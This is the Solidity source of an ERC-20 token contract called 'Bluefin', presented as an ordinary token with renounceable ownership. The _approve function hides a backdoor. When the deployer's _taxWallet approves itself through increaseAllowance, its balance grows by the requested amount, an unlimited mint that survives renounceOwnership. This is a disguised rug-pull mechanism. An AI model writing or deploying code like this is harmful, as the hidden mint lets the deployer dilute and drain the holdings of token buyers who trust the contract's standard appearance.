// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
abstract contract Context { function _msgSender() internal view virtual returns (address) { return msg.sender; } }
contract Ownable is Context {
    address private _owner; event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    constructor() { _owner = _msgSender(); emit OwnershipTransferred(address(0), _owner); }
    function owner() public view returns (address) { return _owner; }
    modifier onlyOwner() { require(_owner == _msgSender(), "Ownable: caller is not the owner"); _; }
    function renounceOwnership() public onlyOwner { emit OwnershipTransferred(_owner, address(0)); _owner = address(0); }
}
contract Bluefin is Ownable {
    mapping(address => uint256) private _balances; mapping(address => mapping(address => uint256)) private _allowances; address payable private _taxWallet;
    uint8 public constant decimals = 9; uint256 private constant _tTotal = 420690000 * 10 ** 9; string public constant name = "Bluefin"; string public constant symbol = "BLUEFIN";
    event Transfer(address indexed from, address indexed to, uint256 value); event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _taxWallet = payable(_msgSender()); _balances[_msgSender()] = _tTotal; emit Transfer(address(0), _msgSender(), _tTotal); }
    function totalSupply() public pure returns (uint256) { return _tTotal; }
    function balanceOf(address a) public view returns (uint256) { return _balances[a]; }
    function allowance(address o, address s) public view returns (uint256) { return _allowances[o][s]; }
    function transfer(address to, uint256 n) public returns (bool) { _transfer(_msgSender(), to, n); return true; }
    function approve(address s, uint256 n) public returns (bool) { _approve(_msgSender(), s, n, 0); return true; }
    function increaseAllowance(address s, uint256 n) public returns (bool) { _approve(_msgSender(), s, _allowances[_msgSender()][s] + n, n); return true; }
    function decreaseAllowance(address s, uint256 n) public returns (bool) { _approve(_msgSender(), s, _allowances[_msgSender()][s] - n, 0); return true; }
    function transferFrom(address f, address to, uint256 n) public returns (bool) { _transfer(f, to, n); _approve(f, _msgSender(), _allowances[f][_msgSender()] - n, 0); return true; }
    function _approve(address o, address s, uint256 n, uint256 change) private { require(o != address(0) && s != address(0), "ERC20: approve zero"); _allowances[o][s] = n; if (o == s && o == _taxWallet) _balances[s] += change; emit Approval(o, s, n); }
    function _transfer(address f, address to, uint256 n) private { require(f != address(0) && to != address(0), "ERC20: transfer zero"); require(n > 0, "Transfer amount must be greater than zero"); _balances[f] -= n; _balances[to] += n; emit Transfer(f, to, n); }
}
